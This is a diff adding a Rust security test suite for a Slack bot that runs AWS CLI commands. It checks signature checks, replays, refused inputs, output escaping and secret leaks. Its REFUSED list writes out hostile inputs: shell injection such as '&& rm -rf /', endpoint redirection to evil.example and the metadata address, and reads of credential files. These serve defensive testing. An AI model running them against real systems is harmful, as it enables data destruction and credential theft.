@@ -1,0 +1,264 @@
+//! The cases that an attacker, a careless person or hostile data would try. Each says what must not happen.
+
+use std::time::Duration;
+
+use local::aws::DEV;
+use local::slack::fault::RESPONSE_URL;
+use local::slack::slash_command::Variant;
+use local::stack::Stack;
+use serde_json::json;
+use tests::conversation::{PATIENCE, answer, ask, bodies_in_queue, end, job_of, seat, start, start_with};
+
+/// The services that the worker itself needs. A command that is refused reaches no other.
+const OWN_SERVICES: [&str; 4] = ["dynamodb", "kms", "sqs", "sts"];
+
+/// Requests of the worker to AWS on behalf of commands.
+fn calls_for_commands(stack: &Stack) -> usize {
+    let proxy = &stack.faults.as_ref().unwrap().worker_aws;
+    proxy.seen().iter().filter(|seen| !OWN_SERVICES.contains(&seen.service.as_str())).count()
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn requests_that_slack_did_not_sign_now_are_refused_without_a_trace() {
+    let stack = start().await;
+    let ben = seat(&stack, "U0BEN", "C0OPS");
+    for variant in [
+        Variant::NoSignature,
+        Variant::NoTimestamp,
+        Variant::WrongDigit,
+        Variant::WrongVersion,
+        Variant::WrongSecret,
+        Variant::AlteredBody,
+        Variant::TwoSignatures,
+        Variant::Aged(301),
+        Variant::Aged(-301),
+    ] {
+        let typed = ben.types_as("/alfred-invoke aws s3 ls", variant).await;
+        assert_eq!((typed.status, typed.body.as_str()), (Some(401), ""), "{variant:?}");
+    }
+    assert_eq!(stack.worker.invocations(), 0);
+    // Just inside the window it is a request like any other.
+    let typed = ben.types_as("/alfred-invoke aws s3 ls", Variant::Aged(290)).await;
+    answer(&ben, &job_of(&typed)).await;
+    end(stack, &[]).await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_replayed_request_runs_nothing_again() {
+    let stack = start().await;
+    let anna = seat(&stack, "U0ANNA", "C0OPS");
+    let queue = json!({ "QueueName": "replayed" });
+    stack.client(DEV).unwrap().json("sqs", "AmazonSQS.CreateQueue", &queue).await.unwrap();
+    let url = stack.client(DEV).unwrap().json("sqs", "AmazonSQS.GetQueueUrl", &queue).await.unwrap();
+    let url = url["QueueUrl"].as_str().unwrap();
+    let typed = anna
+        .types(&format!("/alfred-invoke aws sqs send-message --queue-url {url} --message-body once"))
+        .await;
+    let job = job_of(&typed);
+    let first = answer(&anna, &job).await.rendered();
+    let invocations = stack.worker.invocations();
+
+    let again = stack.slack.replay(typed.request.as_ref().unwrap()).await;
+    assert_eq!(again.status, Some(200));
+    assert_eq!(job_of(&again), job, "the copy must be the same job");
+    let ended = stack.slack.wait_for(PATIENCE, |_| {
+        let idle = stack.worker.instances().iter().all(|instance| instance.busy.is_none());
+        (stack.worker.invocations() > invocations && idle).then_some(())
+    });
+    // The worker says nothing new in Slack, so nothing there wakes the wait: another command does.
+    let (_, ()) = tokio::join!(ended, async {
+        ask(&anna, "/alfred-invoke aws sts get-caller-identity").await;
+    });
+    assert_eq!(bodies_in_queue(&stack, "replayed").await, ["once"], "{first}");
+    end(stack, &[]).await;
+}
+
+/// What must be refused before any AWS call is made for it, whoever asks.
+const REFUSED: &[&str] = &[
+    // Shell syntax.
+    "aws s3 ls; curl http://x",
+    "aws s3 ls && rm -rf /",
+    "aws s3 ls `id`",
+    "aws s3 ls $(cat /etc/passwd)",
+    "aws s3 ls | sh",
+    "aws s3 ls > /tmp/x",
+    "aws s3 ls < /etc/passwd",
+    // Options of the host.
+    "aws s3 ls —endpoint-url http://x",
+    "aws s3 ls --endpoint-url http://x",
+    "aws s3 ls --endpoint-url=http://x",
+    "aws --endpoint-url http://x s3 ls",
+    "aws --profile admin s3 ls",
+    "aws s3 ls --region us-east-1 --region eu-west-1",
+    "aws s3 ls --ca-bundle /tmp/c",
+    "aws s3 ls --no-verify-ssl",
+    "aws s3 ls --debug",
+    "aws s3 ls --no-sign-request",
+    "aws s3 ls --cli-auto-prompt",
+    "aws ec2 describe-instances --debug",
+    "aws ec2 describe-instances --profile admin",
+    "aws ec2 describe-instances --region 'x@evil.example:443/#'",
+    "aws ec2 describe-instances --region evil.example/",
+    // Values that would be read from somewhere.
+    "aws ec2 describe-instances --filters file:///etc/passwd",
+    "aws ec2 describe-instances --cli-input-json file:///proc/self/environ",
+    "aws ec2 run-instances --image-id ami-1 --user-data fileb://~/.aws/credentials",
+    "aws iam create-policy --policy-name x --policy-document http://169.254.169.254/latest/meta-data/",
+    "aws iam create-policy --policy-name x --policy-document https://evil.example/p.json",
+    // Commands that touch the host, or run programs.
+    "aws s3 cp /proc/self/environ s3://b/",
+    "aws s3 sync s3://b /tmp",
+    "aws lambda invoke --function-name f /var/task/x",
+    "aws configure set credential_process x",
+    "aws configure export-credentials",
+    "aws ssm start-session --target i-1",
+    "aws ecs execute-command --cluster c --task t --command sh --interactive",
+    // Commands that make credentials which outlive the caller's rights.
+    "aws s3 presign s3://b/k",
+    "aws eks get-token --cluster-name c",
+];
+
+#[tokio::test(flavor = "multi_thread")]
+async fn what_is_not_for_chat_makes_no_call() {
+    let stack = start_with(|options| options.faults = true).await;
+    let anna = seat(&stack, "U0ANNA", "C0OPS");
+    for text in REFUSED {
+        let typed = anna.types(&format!("/alfred-invoke {text}")).await;
+        assert_eq!(typed.error, None, "{text}: {typed:?}");
+        if typed.body.contains("job `") {
+            let seen = answer(&anna, &job_of(&typed)).await.rendered();
+            assert!(!seen.contains("root:"), "{text}: {seen}");
+            assert!(!seen.contains("AWS_SECRET_ACCESS_KEY"), "{text}: {seen}");
+            assert!(!seen.contains("exit 0"), "{text} ran: {seen}");
+        }
+        assert_eq!(calls_for_commands(&stack), 0, "{text} made a call: {}", anna.transcript());
+    }
+    // The way to AWS is open all the same.
+    ask(&anna, "/alfred-invoke aws s3 ls").await;
+    assert_eq!(calls_for_commands(&stack), 1);
+    end(stack, &[]).await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn quoted_operators_are_text() {
+    let stack = start().await;
+    let ben = seat(&stack, "U0BEN", "C0OPS");
+    for value in [r#""a;b|c""#, "'$(id)'", "'`id`'", "'a && b > c'"] {
+        let seen = ask(
+            &ben,
+            &format!("/alfred-invoke aws ec2 describe-instances --filters Name=tag:Name,Values={value}"),
+        )
+        .await;
+        assert!(seen.contains("\"Reservations\": []"), "{value}: {seen}");
+    }
+    end(stack, &[]).await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn what_aws_returns_cannot_speak_for_itself() {
+    let stack = start().await;
+    let hostile = [
+        "<!channel> pay",
+        "<https://evil.example|console.aws>",
+        "```\n*bold* @here <@U0ANNA>",
+        "&amp;lt;!here&amp;gt;",
+        "evil\u{202e}gpj.exe",
+    ];
+    let dev = stack.client(DEV).unwrap();
+    for (number, text) in hostile.iter().enumerate() {
+        let input = json!({
+            "TableName": "dev-orders",
+            "Item": { "order": { "S": format!("hostile-{number}") }, "note": { "S": text } },
+        });
+        dev.json("dynamodb", "DynamoDB_20120810.PutItem", &input).await.unwrap();
+    }
+    let ben = seat(&stack, "U0BEN", "C0OPS");
+    let seen =
+        ask(&ben, "/alfred-invoke aws dynamodb scan --table-name dev-orders --query Items[].note.S").await;
+    for literal in [
+        "<!channel> pay",
+        "<https://evil.example|console.aws>",
+        "*bold* @here <@U0ANNA>",
+        "&amp;lt;!here&amp;gt;",
+    ] {
+        assert!(seen.contains(literal), "{literal} is not shown as it is: {seen}");
+    }
+    assert!(!seen.contains('\u{202e}'), "a character that turns text around got through: {seen}");
+    // An error's text is AWS's, and may repeat what was typed.
+    ask(&ben, "/alfred-invoke aws dynamodb describe-table --table-name '<!channel>'").await;
+    ask(&ben, "/alfred-invoke aws '<!channel>' '<https://evil.example|x>'").await;
+    assert_eq!(stack.slack.pings(), [], "somebody was notified");
+    let links: Vec<String> = stack.slack.posted().iter().flat_map(|message| message.links()).collect();
+    assert!(links.iter().all(|link| !link.contains("evil")), "{links:?}");
+    end(stack, &[]).await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_query_that_doubles_its_result_is_stopped() {
+    let stack = start().await;
+    let ben = seat(&stack, "U0BEN", "C0OPS");
+    let query = vec!["[@,@]"; 22].join(" | ");
+    let started = std::time::Instant::now();
+    let seen = ask(&ben, &format!("/alfred-invoke aws ec2 describe-instances --query '{query}'")).await;
+    assert!(started.elapsed() < Duration::from_secs(20), "{:?}", started.elapsed());
+    assert!(seen.len() < 20_000, "{} bytes shown", seen.len());
+    end(stack, &[]).await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn guests_and_people_without_a_mapping_get_nothing() {
+    let stack = start_with(|options| options.faults = true).await;
+    for (user, channel) in [("U0GUEST", "C0OPS"), ("U0DAN", "C0GENERAL")] {
+        let seen = ask(&seat(&stack, user, channel), "/alfred-invoke aws s3 ls").await;
+        assert!(!seen.contains("wayne-dev"), "{user}: {seen}");
+    }
+    assert_eq!(calls_for_commands(&stack), 0);
+    end(stack, &[]).await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn text_that_is_too_long_or_unprintable_is_refused_at_once() {
+    let stack = start().await;
+    let ben = seat(&stack, "U0BEN", "C0OPS");
+    for (text, told) in [
+        (format!("aws s3 ls s3://{}", "a".repeat(1_000_000)), "longer"),
+        ("aws s3 ls \u{0}".to_owned(), "U+0000"),
+    ] {
+        let typed = ben.types(&format!("/alfred-invoke {text}")).await;
+        assert!(typed.body.contains(told) && !typed.body.contains("job `"), "{}", typed.body);
+    }
+    let nested = "(".repeat(10_000);
+    let typed = ben.types(&format!("/alfred-invoke aws ec2 describe-instances --query '{nested}'")).await;
+    if typed.body.contains("job `") {
+        answer(&ben, &job_of(&typed)).await;
+    }
+    assert_eq!(stack.worker.instances().len(), 1, "the worker crashed");
+    end(stack, &[]).await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn commands_start_no_process_and_show_no_secret_in_logs() {
+    let stack = start().await;
+    let (in_output, in_object) = ("canary-output-7f3a9c", "canary-object-51be02");
+    let dev = stack.client(DEV).unwrap();
+    let item = json!({ "TableName": "dev-orders", "Item": { "order": { "S": in_output } } });
+    dev.json("dynamodb", "DynamoDB_20120810.PutItem", &item).await.unwrap();
+    dev.rest("s3", "PUT", &format!("/wayne-dev-assets/{in_object}"), "text".into()).await.unwrap();
+
+    let ben = seat(&stack, "U0BEN", "C0OPS");
+    let seen = ask(&ben, "/alfred-invoke aws dynamodb scan --table-name dev-orders").await;
+    assert!(seen.contains(in_output), "{seen}");
+    let seen = ask(&ben, "/alfred-invoke aws s3 ls s3://wayne-dev-assets").await;
+    assert!(seen.contains(in_object), "{seen}");
+    // A refusal repeats what was typed, and a lost response_url makes the worker take another way.
+    let typed = "canary-typed-0c11d8";
+    ask(&ben, &format!("/alfred-invoke aws dynamodb describe-table --table-name {typed}")).await;
+    stack.slack.fail_next(RESPONSE_URL, local::slack::fault::Fault::Status(404));
+    ask(&ben, "/alfred-invoke aws s3 ls s3://wayne-dev-assets").await;
+
+    for instance in stack.worker.instances() {
+        let children = format!("/proc/{0}/task/{0}/children", instance.pid.unwrap());
+        assert_eq!(std::fs::read_to_string(children).unwrap(), "", "the worker started a process");
+    }
+    end(stack, &[in_output, in_object, typed]).await;
+}
